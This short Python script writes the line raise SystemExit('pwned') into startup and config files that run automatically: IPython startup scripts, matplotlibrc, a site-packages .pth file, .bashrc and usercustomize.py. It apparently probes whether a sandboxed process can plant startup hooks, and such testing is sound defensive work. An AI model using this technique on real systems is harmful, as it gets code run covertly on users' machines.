# leaves what programs read at their start
# remark: files of the machine
# ruff: noqa
import os

for path in (
    "/tmp/.ipython/profile_default/startup/00-pwned.py",
    "/tmp/.ipython/profile_default/ipython_config.py",
    "/tmp/.config/matplotlib/matplotlibrc",
    "/tmp/matplotlibrc",
    "/tmp/.local/lib/python3.11/site-packages/pwned.pth",
    "/tmp/.bashrc",
    "/scratch/usercustomize.py",
):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write("raise SystemExit('pwned')\n")
